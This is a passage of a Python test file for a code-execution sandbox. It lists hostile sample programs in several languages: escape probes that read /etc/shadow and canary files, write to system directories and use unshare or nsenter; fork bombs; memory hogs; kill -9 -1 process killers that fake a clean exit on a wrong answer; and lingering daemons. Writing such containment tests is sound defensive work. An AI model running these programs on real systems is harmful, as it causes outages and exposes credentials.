        description="bash: kill -9 -1, the parent, pid 1 and its own process group, then a wrong answer",
        code=r'''
            kill -9 -1; kill -9 $PPID; kill -9 1; kill -TERM 0 2>/dev/null; trap '' TERM
            read a b
            echo $((a + b + 1))
        '''),
    HostileProgram(
        "bash_daemon_leftover", P, language="bash", allowed=RAN, followup=LEFTOVERS,
        description="bash: setsid -f, nohup + disown and a double fork of marked sleepers that ignore HUP and TERM",
        code=r'''
            setsid -f bash -c 'exec -a @@MARK@@-setsid sleep 30'
            nohup bash -c 'exec -a @@MARK@@-nohup sleep 30' >/dev/null 2>&1 &
            disown
            ( trap '' HUP TERM; bash -c 'exec -a @@MARK@@-double sleep 30' & ) &
            echo done
        '''),
]

# -- ruby (forked from the slot's warm ruby: sandbox/runtime/fork_servers.py) ---------------------------
RUBY_PROGRAMS: list[HostileProgram] = [
    HostileProgram(
        "ruby_escape", E, language="ruby", problem="canary", allowed=RAN, followup=LEFTOVERS,
        description="ruby: read the canaries and /etc/shadow, list /root and the repository, write in /usr, /etc, "
                    "/tmp and the repository, dial the host, DNS, UDP; signal its parent (the fork server) and "
                    "forge an exit notice on fd 3 (the server's socket, were it inherited); unshare/nsenter",
        code=r'''
            def esc(what) = puts("ESC" + "APED:#{what}")
            (3..64).each do |fd|          # first, before it opens anything: what it inherited
              what = File.readlink("/proc/self/fd/#{fd}") rescue next
              (IO.for_fd(fd, autoclose: false).write("X #{$$} 0 0 0 0"); esc("wrote fd #{fd} #{what}")) rescue nil
            end
            require "socket"
            ["/etc/shadow", "/root/.bash_history", "@@CANARY_TMP@@", "@@CANARY_REPO@@", "@@CANARY_HOME@@"].each do |p|
              data = (File.read(p) rescue nil)
              esc("read #{p}") if data && p.include?("@@TOKEN@@")
            end
            ["/tmp", "/root", "/work", "@@REPO@@", "@@HOME@@", "@@CANARY_DIR@@"].each do |d|
              esc("listed #{d}") if (Dir.children(d) rescue []).any? { |name| name.include?("@@TOKEN@@") }
            end
            ["/usr", "/etc", "/tmp", "/var/tmp", "/dev/shm", "@@REPO@@", "@@HOME@@", "/root"].each do |d|
              (File.write("#{d}/hostile-@@TOKEN@@-ruby", "left by ruby") && puts("wrote in #{d}")) rescue nil
            end
            [["127.0.0.1", @@TCP_PORT@@], ["::1", @@TCP6_PORT@@], ["1.1.1.1", 443]].each do |host, port|
              (Socket.tcp(host, port, connect_timeout: 0.3).close; esc("tcp #{host}")) rescue nil
            end
            (esc("dns") unless Addrinfo.getaddrinfo("example.com", 80).empty?) rescue nil
            (UDPSocket.new.send("hostile-@@TOKEN@@", 0, "127.0.0.1", @@UDP_PORT@@)) rescue nil
            [:TERM, :HUP, :STOP].each do |sig|
              (Process.kill(sig, Process.ppid); esc("signalled the parent")) rescue nil
            end
            system("unshare -r id; nsenter -t 1 -m -n cat @@CANARY_TMP@@")
            exit 0
        '''),
    HostileProgram(
        "ruby_fork_bomb", X, language="ruby", allowed=FORK_BOMB, followup=LEFTOVERS,
        description="ruby: every child forks forever (Process.fork until refused, then again)",
        code=r'''
            loop { (Process.fork { loop { Process.fork rescue sleep(0.001) } }) rescue sleep(0.001) }
        '''),
    HostileProgram(
        "ruby_memory_hog", X, language="ruby", allowed=HOG, watch_memory=True,
        description="ruby: a 2 GB string, then another",
        code=r'''
            kept = []
            loop { kept << ("a" * 256_000_000) }
        '''),
    HostileProgram(
        "ruby_kill_everyone", G, language="ruby", problem="add", allowed=RAN,
        description="ruby: SIGKILL -1, its parent (the fork server) and pid 1, SIGTERM its group, redefine "
                    "Kernel#exit and at_exit to exit 0, then a wrong answer",
        code=r'''
            [-1, Process.ppid, 1].each { |pid| Process.kill(:KILL, pid) rescue nil }
            trap(:TERM) {}
            Process.kill(:TERM, 0) rescue nil
            module Kernel
              def exit(*) = exit!(0)
            end
            at_exit { exit!(0) }
            a, b = gets.split.map(&:to_i)
            puts a + b + 1
        '''),
    HostileProgram(
        "ruby_daemon_leftover", P, language="ruby", allowed=RAN, followup=LEFTOVERS,
        description="ruby: a setsid'd double fork that ignores HUP and TERM, Process.daemon, a spawned marked sleeper",
        code=r'''
            Process.fork do
              Process.setsid
              Process.fork { trap(:HUP) {}; trap(:TERM) {}; exec("bash", "-c", "exec -a @@MARK@@-ruby sleep 30") }
              exit!(0)
            end
            Process.fork { Process.daemon(true, true); exec("bash", "-c", "exec -a @@MARK@@-daemon sleep 30") }
            Process.detach(spawn("bash", "-c", "exec -a @@MARK@@-spawn sleep 30", pgroup: true))
            puts "done"
        '''),
]

# -- php (forked from the slot's warm php: sandbox/runtime/fork_servers.py) -----------------------------
PHP_PROGRAMS: list[HostileProgram] = [
    HostileProgram(
        "php_escape", E, language="php", problem="canary", allowed=RAN, followup=LEFTOVERS,
        description="php: read the canaries and /etc/shadow, list /root and the repository, write in /usr, /etc, "
                    "/tmp and the repository, dial the host, DNS, UDP; signal its parent (the fork server), forge "
                    "an exit notice on every inherited fd, FFI to unshare a user namespace; unshare/nsenter",
        code=r'''<?php
            function esc($what) { echo "ESC" . "APED:$what\n"; }
            foreach (scandir("/proc/self/fd") as $fd) {       // first: what it inherited
                if (!ctype_digit($fd) || (int)$fd < 3) continue;
                $what = @readlink("/proc/self/fd/$fd");
                $f = @fopen("php://fd/$fd", "w");
                if ($f && @fwrite($f, "X " . getmypid() . " 0 0 0 0")) esc("wrote fd $fd $what");
            }
            foreach (["/etc/shadow", "/root/.bash_history", "@@CANARY_TMP@@", "@@CANARY_REPO@@", "@@CANARY_HOME@@"] as $p) {
                $data = @file_get_contents($p);
                if ($data !== false && str_contains($p, "@@TOKEN@@")) esc("read $p");
            }
            foreach (["/tmp", "/root", "/work", "@@REPO@@", "@@HOME@@", "@@CANARY_DIR@@"] as $d) {
                foreach (@scandir($d) ?: [] as $name) if (str_contains($name, "@@TOKEN@@")) esc("listed $d");
            }
            foreach (["/usr", "/etc", "/tmp", "/var/tmp", "/dev/shm", "@@REPO@@", "@@HOME@@", "/root"] as $d) {
                if (@file_put_contents("$d/hostile-@@TOKEN@@-php", "left by php") !== false) echo "wrote in $d\n";
            }
            foreach ([["127.0.0.1", @@TCP_PORT@@], ["[::1]", @@TCP6_PORT@@], ["1.1.1.1", 443]] as [$host, $port]) {
                $s = @stream_socket_client("tcp://$host:$port", $errno, $errstr, 0.3);
                if ($s) esc("tcp $host");
            }
            if (@gethostbyname("example.com") !== "example.com") esc("dns");
            $u = @stream_socket_client("udp://127.0.0.1:@@UDP_PORT@@");
            if ($u) @fwrite($u, "hostile-@@TOKEN@@");
            foreach ([SIGTERM, SIGHUP, SIGSTOP] as $sig) if (@posix_kill(posix_getppid(), $sig)) esc("signalled the parent");
            try {
                $ffi = FFI::cdef("int unshare(int flags);", "libc.so.6");
                if ($ffi->unshare(0x10000000) === 0) esc("user namespace");
            } catch (Throwable $e) { echo get_class($e), "\n"; }
            system("unshare -r id; nsenter -t 1 -m -n cat @@CANARY_TMP@@");
            exit(0);
        '''),
    HostileProgram(
        "php_fork_bomb", X, language="php", allowed=FORK_BOMB, followup=LEFTOVERS,
        description="php: every child forks forever (pcntl_fork until refused, then again)",
        code=r'''<?php
            while (true) { if (@pcntl_fork() === 0) { while (true) { @pcntl_fork() ?: usleep(1000); } } usleep(1000); }
        '''),
    HostileProgram(
        "php_memory_hog", X, language="php", allowed=HOG, watch_memory=True,
        description="php: 256 MB strings until refused (memory_limit lifted)",
        code=r'''<?php
            ini_set("memory_limit", "-1");
            $kept = [];
            while (true) { $kept[] = str_repeat("a", 256000000); }
        '''),
    HostileProgram(
        "php_kill_everyone", G, language="php", problem="add", allowed=RAN,
        description="php: SIGKILL -1, its parent (the fork server) and pid 1, SIGTERM its group, a shutdown "
                    "function and an output callback that exit 0, then a wrong answer",
        code=r'''<?php
            foreach ([-1, posix_getppid(), 1] as $pid) @posix_kill($pid, SIGKILL);
            pcntl_signal(SIGTERM, SIG_IGN);
            @posix_kill(0, SIGTERM);
            register_shutdown_function(function () { exit(0); });
            [$a, $b] = array_map("intval", explode(" ", trim(fgets(STDIN))));
            echo $a + $b + 1, "\n";
        '''),
    HostileProgram(
        "php_daemon_leftover", P, language="php", allowed=RAN, followup=LEFTOVERS,
        description="php: a setsid'd double fork that ignores HUP and TERM, and a marked sleeper started by the shell",
        code=r'''<?php
            if (pcntl_fork() === 0) {
                posix_setsid();
                if (pcntl_fork() === 0) {
                    pcntl_signal(SIGHUP, SIG_IGN); pcntl_signal(SIGTERM, SIG_IGN);
                    pcntl_exec("/bin/bash", ["-c", "exec -a @@MARK@@-php sleep 30"]);
                }
                exit(0);
            }
            exec("setsid -f bash -c 'exec -a @@MARK@@-setsid sleep 30' >/dev/null 2>&1");
            echo "done\n";
        '''),
]

# -- R (forked from the slot's warm R: sandbox/runtime/fork_servers.py, fork_server_native.c) ------------------
R_PROGRAMS: list[HostileProgram] = [
    HostileProgram(
        "r_escape", E, language="R", problem="canary", allowed=RAN, followup=LEFTOVERS,
        description="R: read the canaries and /etc/shadow, list /root and the repository, write in /usr, /etc, "
                    "/tmp and the repository, dial the host, DNS, UDP; signal its parent (the fork server), forge "
                    "an exit notice on every inherited fd, load the server's C helper; unshare/nsenter",
        code=r'''
            esc <- function(what) cat(paste0("ESC", "APED:", what), "\n")
            for (fd in 3:64) {            # first, before it opens anything: what it inherited
                what <- Sys.readlink(sprintf("/proc/self/fd/%d", fd))
                if (is.na(what) || what == "" || endsWith(what, "/main.R")) next   # its own source
                wrote <- tryCatch({
                    con <- file(sprintf("/proc/self/fd/%d", fd), "w")
                    writeLines(sprintf("X %d 0 0 0 0", Sys.getpid()), con)
                    close(con)
                    TRUE
                }, error = function(e) FALSE, warning = function(w) FALSE)
                if (wrote) esc(paste("wrote fd", fd, what))
            }
            quiet <- function(expr) tryCatch(expr, error = function(e) NULL, warning = function(w) NULL)
            for (p in c("/etc/shadow", "/root/.bash_history", "@@CANARY_TMP@@", "@@CANARY_REPO@@", "@@CANARY_HOME@@")) {
                data <- quiet(readLines(p, warn = FALSE))
                if (!is.null(data) && grepl("@@TOKEN@@", p)) esc(paste("read", p))
            }
            for (d in c("/tmp", "/root", "/work", "@@REPO@@", "@@HOME@@", "@@CANARY_DIR@@")) {
                if (any(grepl("@@TOKEN@@", list.files(d, all.files = TRUE)))) esc(paste("listed", d))
            }
            for (d in c("/usr", "/etc", "/tmp", "/var/tmp", "/dev/shm", "@@REPO@@", "@@HOME@@", "/root")) {
                if (isTRUE(quiet({ writeLines("left by R", file.path(d, "hostile-@@TOKEN@@-R")); TRUE })))
                    cat("wrote in", d, "\n")
            }
            for (hp in list(list("127.0.0.1", @@TCP_PORT@@), list("1.1.1.1", 443))) {
                con <- quiet(socketConnection(hp[[1]], hp[[2]], open = "r+", timeout = 1))
                if (!is.null(con)) esc(paste("tcp", hp[[1]]))
            }
            if (!is.null(quiet(utils::nsl("example.com")))) esc("dns")
            system("bash -c 'echo hostile-@@TOKEN@@ > /dev/udp/127.0.0.1/@@UDP_PORT@@' 2>/dev/null")
            ppid <- as.integer(strsplit(readLines("/proc/self/stat"), " ")[[1]][4])
            for (sig in c(tools::SIGTERM, tools::SIGHUP, tools::SIGSTOP)) {
                if (isTRUE(tools::pskill(ppid, sig))) esc("signalled the parent")
            }
            if (!is.null(quiet(dyn.load("/opt/sandbox/runtime/fork_server_native.so")))) esc("loaded the server's helper")
            system("unshare -r id; nsenter -t 1 -m -n cat @@CANARY_TMP@@")
            quit(status = 0)
        '''),
    HostileProgram(
        "r_fork_bomb", X, language="R", allowed=FORK_BOMB, followup=LEFTOVERS,
        description="R: every child forks forever (parallel's mcfork until refused, then again)",
        code=r'''
            repeat try(parallel:::mcfork(), silent = TRUE)
        '''),
    HostileProgram(
        "r_memory_hog", X, language="R", allowed=HOG, watch_memory=True,
        description="R: 256 MB vectors, zero-filled, until refused",
        code=r'''
            kept <- list()
            repeat kept[[length(kept) + 1L]] <- numeric(32e6)
        '''),
    HostileProgram(
        "r_kill_everyone", G, language="R", problem="add", allowed=RAN,
        description="R: SIGKILL -1, its parent (the fork server) and pid 1, an error handler, .Last and an "
                    "exit finalizer that quit 0, base's quit rebound, then a wrong answer",
        code=r'''
            ppid <- as.integer(strsplit(readLines("/proc/self/stat"), " ")[[1]][4])
            for (pid in c(-1L, ppid, 1L)) try(tools::pskill(pid, tools::SIGKILL), silent = TRUE)
            options(error = function() quit(status = 0))
            .Last <- function() quit(save = "no", status = 0, runLast = FALSE)
            invisible(reg.finalizer(globalenv(), function(e) quit(status = 0), onexit = TRUE))
            unlockBinding("quit", baseenv())
            assign("quit", function(...) invisible(.Internal(quit("no", 0L, FALSE))), envir = baseenv())
            x <- scan(file("stdin"), quiet = TRUE)
            cat(sum(x) + 1, "\n")
        '''),
    HostileProgram(
        "r_daemon_leftover", P, language="R", allowed=RAN, followup=LEFTOVERS,
        description="R: a setsid'd sleeper that ignores HUP and TERM, a nohup'd one, an estranged mcfork child "
                    "and a system2 sleeper left running, all marked",
        code=r'''
            system("setsid -f bash -c 'trap \"\" HUP TERM; exec -a @@MARK@@-setsid sleep 30' >/dev/null 2>&1")
            system("nohup bash -c 'exec -a @@MARK@@-nohup sleep 30' >/dev/null 2>&1 &")
            if (inherits(parallel:::mcfork(estranged = TRUE), "masterProcess")) {
                system("bash -c 'exec -a @@MARK@@-mcfork sleep 30'")
                parallel:::mcexit(0L)
            }
            system2("bash", c("-c", shQuote("exec -a @@MARK@@-system2 sleep 30")), wait = FALSE)
            cat("done\n")
        '''),
]

# -- racket (forked from the slot's warm racket: sandbox/runtime/fork_servers.py, fork_server_native.c) ------
RACKET_PROGRAMS: list[HostileProgram] = [
    HostileProgram(
        "racket_escape", E, language="racket", problem="canary", allowed=RAN, followup=LEFTOVERS,
        description="racket: read the canaries and /etc/shadow, list /root and the repository, write in /usr, /etc, "
                    "/tmp and the repository, dial the host, DNS, UDP; signal its parent (the fork server), forge "
                    "an exit notice on every inherited fd, read the server's C helper, unshare a user namespace "
                    "through the ffi; unshare/nsenter",
        code=r'''
            #lang racket/base
            (require ffi/unsafe racket/file racket/os racket/string racket/system racket/tcp racket/udp)
            (define (esc what) (printf "ESC~a\n" (string-append "APED:" what)))
            (define-syntax-rule (quiet e) (with-handlers ([void (lambda (x) #f)]) e))
            (define c-write (get-ffi-obj "write" #f (_fun _int _bytes _size -> _ssize)))
            (define inherited                  ; first, before it opens anything: what it inherited
              (for*/list ([fd (in-range 3 65)] [what (in-value (quiet (path->string (resolve-path
                                                                                    (format "/proc/self/fd/~a" fd)))))]
                          #:when what)
                (cons fd what)))
            (for ([fd+what inherited])         ; but racket's own wake-up pipe (both of its ends are ours)
              (define notice (string->bytes/utf-8 (format "X ~a 0 0 0 0" (getpid))))
              (unless (and (string-prefix? (cdr fd+what) "pipe:")
                           (> (length (filter (lambda (x) (equal? (cdr x) (cdr fd+what))) inherited)) 1))
                (when (> (c-write (car fd+what) notice (bytes-length notice)) 0)
                  (esc (format "wrote fd ~a ~a" (car fd+what) (cdr fd+what))))))
            (for ([p '("/etc/shadow" "/root/.bash_history" "@@CANARY_TMP@@" "@@CANARY_REPO@@" "@@CANARY_HOME@@")])
              (when (and (quiet (file->string p)) (string-contains? p "@@TOKEN@@")) (esc (format "read ~a" p))))
            (for ([d '("/tmp" "/root" "/work" "@@REPO@@" "@@HOME@@" "@@CANARY_DIR@@")])
              (when (for/or ([n (or (quiet (directory-list d)) '())]) (string-contains? (path->string n) "@@TOKEN@@"))
                (esc (format "listed ~a" d))))
            (for ([d '("/usr" "/etc" "/tmp" "/var/tmp" "/dev/shm" "@@REPO@@" "@@HOME@@" "/root")])
              (when (quiet (begin (with-output-to-file (build-path d "hostile-@@TOKEN@@-racket")
                                    (lambda () (display "left by racket")) #:exists 'replace) #t))
                (printf "wrote in ~a\n" d)))
            (for ([hp '(("127.0.0.1" . @@TCP_PORT@@) ("::1" . @@TCP6_PORT@@) ("1.1.1.1" . 443))])
              (define ch (make-channel))
              (void (thread (lambda () (channel-put ch (quiet (let-values ([(i o) (tcp-connect (car hp) (cdr hp))]) #t))))))
              (when (sync/timeout 0.5 ch) (esc (format "tcp ~a" (car hp)))))
            (when (quiet (let ([u (udp-open-socket)]) (udp-send-to u "127.0.0.1" @@UDP_PORT@@ #"hostile-@@TOKEN@@") #t))
              (void))
            (define ppid (string->number (list-ref (string-split (file->string "/proc/self/stat")) 3)))
            (define kill (get-ffi-obj "kill" #f (_fun _int _int -> _int)))
            (for ([sig '(15 1 19)])
              (when (zero? (kill ppid sig)) (esc "signalled the parent")))
            (when (quiet (file->bytes "/opt/sandbox/runtime/fork_server_native.so")) (esc "read the server's helper"))
            (when (zero? ((get-ffi-obj "unshare" #f (_fun _int -> _int)) #x10000000)) (esc "user namespace"))
            (void (system "unshare -r id; nsenter -t 1 -m -n cat @@CANARY_TMP@@"))
            (exit 0)
        '''),
    HostileProgram(
        "racket_fork_bomb", X, language="racket", allowed=FORK_BOMB, followup=LEFTOVERS,
        description="racket: every child forks forever (libc fork through the ffi until refused, then again)",
        code=r'''
            #lang racket/base
            (require ffi/unsafe)
            (define fork (get-ffi-obj "fork" #f (_fun -> _int)))
            (let loop () (fork) (loop))
        '''),
    HostileProgram(
        "racket_memory_hog", X, language="racket", allowed=HOG, watch_memory=True,
        description="racket: 256 MB byte strings until refused",
        code=r'''
            #lang racket/base
            (let loop ([kept '()]) (loop (cons (make-bytes 256000000 97) kept)))
        '''),
    HostileProgram(
        "racket_kill_everyone", G, language="racket", problem="add", allowed=RAN,
        description="racket: SIGKILL -1, its parent (the fork server) and pid 1, an exit handler and a plumber "
                    "callback that exit 0 through libc, then a wrong answer",
        code=r'''
            #lang racket/base
            (require ffi/unsafe racket/file racket/string)
            (define kill (get-ffi-obj "kill" #f (_fun _int _int -> _int)))
            (define ppid (string->number (list-ref (string-split (file->string "/proc/self/stat")) 3)))
            (for ([pid (list -1 ppid 1)]) (kill pid 9))
            (define _exit (get-ffi-obj "_exit" #f (_fun _int -> _void)))
            (exit-handler (lambda (c) (flush-output) (_exit 0)))
            (void (plumber-add-flush! (current-plumber) (lambda (h) (_exit 0))))
            (define a (read))
            (define b (read))
            (displayln (+ a b 1))
        '''),
    HostileProgram(
        "racket_daemon_leftover", P, language="racket", allowed=RAN, followup=LEFTOVERS,
        description="racket: a setsid'd sleeper that ignores HUP and TERM, a nohup'd one, a forked child and a "
                    "subprocess left running, all marked",
        code=r'''
            #lang racket/base
            (require ffi/unsafe racket/system)
            (void (system "setsid -f bash -c 'trap \"\" HUP TERM; exec -a @@MARK@@-setsid sleep 30' >/dev/null 2>&1"))
            (void (system "nohup bash -c 'exec -a @@MARK@@-nohup sleep 30' >/dev/null 2>&1 &"))
            (define execv (get-ffi-obj "execv" #f (_fun _path (_list i _string) -> _int)))
            (when (zero? ((get-ffi-obj "fork" #f (_fun -> _int))))
              (execv "/bin/bash" (list "bash" "-c" "exec -a @@MARK@@-fork sleep 30" #f)))
            (void (process "exec -a @@MARK@@-process sleep 30"))
            (displayln "done")
        '''),
]

PROGRAMS: list[HostileProgram] = (JAVA_PROGRAMS + GO_PROGRAMS + RUST_PROGRAMS + NODE_PROGRAMS + BASH_PROGRAMS
                                  + RUBY_PROGRAMS + PHP_PROGRAMS + R_PROGRAMS + RACKET_PROGRAMS)

# -- correct programs these runtimes must be able to run ---------------------------------------------


N_STRUCTS = 12


def _rust_medium_program() -> str:
    """~230 lines of generic Rust (traits, iterators, collections, closures): rustc -O at work for seconds."""
    parts = ['''
use std::collections::{BTreeMap, HashMap, HashSet, VecDeque};
use std::fmt::Display;

trait Shape { fn area(&self) -> f64; fn name(&self) -> String; }
''']
    for i in range(N_STRUCTS):
        parts.append(f'''
#[derive(Debug, Clone, PartialEq)]
struct S{i} {{ a: f64, b: f64, tags: Vec<String> }}
impl Shape for S{i} {{
    fn area(&self) -> f64 {{ self.a * self.b + {i}.0 }}
    fn name(&self) -> String {{ format!("s{i}-{{}}", self.tags.join(",")) }}
}}
fn stage{i}<T: Clone + Display + Ord>(xs: &[T]) -> (Vec<T>, BTreeMap<String, usize>) {{
    let mut v: Vec<T> = xs.iter().cloned().collect();
    v.sort();
    v.dedup();
    let counts = xs.iter().fold(BTreeMap::new(), |mut m, x| {{ *m.entry(format!("{{}}", x)).or_insert(0) += 1; m }});
    (v.into_iter().rev().take({i} + 3).collect(), counts)
}}
''')
    parts.append('''
fn bfs(n: usize, edges: &[(usize, usize)]) -> Vec<usize> {
    let mut adj: HashMap<usize, Vec<usize>> = HashMap::new();
    for &(a, b) in edges { adj.entry(a).or_default().push(b); adj.entry(b).or_default().push(a); }
    let mut dist = vec![usize::MAX; n];
    let mut q = VecDeque::from([0usize]);
    dist[0] = 0;
    while let Some(u) = q.pop_front() {
        for &w in adj.get(&u).map(|v| v.as_slice()).unwrap_or(&[]) {
            if dist[w] == usize::MAX { dist[w] = dist[u] + 1; q.push_back(w); }
        }
    }
    dist
}

fn main() {
    let shapes: Vec<Box<dyn Shape>> = vec![
''' + "".join(f"        Box::new(S{i} {{ a: {i}.0, b: 2.0, tags: vec![\"t{i}\".to_string()] }}),\n" for i in range(N_STRUCTS)) + '''
    ];
    let total: f64 = shapes.iter().map(|s| s.area()).sum();
    let names: HashSet<String> = shapes.iter().map(|s| s.name()).collect();
    let xs: Vec<i64> = (0..1000).map(|i| (i * 7919) % 1009).collect();
''' + "".join(f"    let (top{i}, counts{i}) = stage{i}(&xs);\n" for i in range(N_STRUCTS)) + '''
    let check: usize = 0''' + "".join(f" + top{i}.len() + counts{i}.len()" for i in range(N_STRUCTS)) + ''';
    let edges: Vec<(usize, usize)> = (1..500).map(|i| (i, i / 2)).collect();
    let far = bfs(500, &edges).into_iter().max().unwrap();
    println!("{} {} {} {}", total, names.len(), check, far);
}
''')
    return "".join(parts)


LEGIT: list[LegitProgram] = [
    LegitProgram(
        "java_sixteen_threads", language="java", expected_stdout="16 2666664665744000\n",
        description="Java: 16 threads summing squares, joined (the JVM's own threads come on top)",
        code=r'''
            import java.util.concurrent.atomic.AtomicLong;
            public class Main {
                public static void main(String[] args) throws Exception {
                    AtomicLong total = new AtomicLong();
                    Thread[] threads = new Thread[16];
                    for (int t = 0; t < 16; t++) {
                        final int id = t;
                        threads[t] = new Thread(() -> {
                            long s = 0;
                            for (long i = id; i < 2_000_000; i += 16) s += i * i / 1000;
                            total.addAndGet(s);
                        });
                        threads[t].start();
                    }
                    for (Thread t : threads) t.join();
                    System.out.println(threads.length + " " + total.get());
                }
            }
        '''),
    LegitProgram(
        "go_sixteen_locked_os_threads", language="go", expected_stdout="16 21333253148800\n",
        description="Go: 16 goroutines, each locked to an OS thread of its own, GOMAXPROCS 16",
        code=r'''
            package main

            import (
                "fmt"
                "runtime"
                "sync"
            )

            func main() {
                runtime.GOMAXPROCS(16)
                var mu sync.Mutex
                var wg sync.WaitGroup
                total := int64(0)
                for t := 0; t < 16; t++ {
                    wg.Add(1)
                    go func(id int64) {
                        defer wg.Done()
                        runtime.LockOSThread()
                        s := int64(0)
                        for i := id; i < 400000; i += 16 {
                            s += i * i / 1000
                        }
                        mu.Lock()
                        total += s
                        mu.Unlock()
                    }(int64(t))
                }
                wg.Wait()
                fmt.Println(16, total)
            }
        '''),
    LegitProgram(
        "rust_medium_compile", language="rust", expected_stdout="198 12 12102 9\n",
        limits={"wall_s": 20.0, "cpu_s": 20.0, "compile_wall_s": 60.0},
        description="Rust: rustc -O of ~300 lines of generics, traits and collections (rustc's own memory and threads)",
        code=_rust_medium_program()),
]
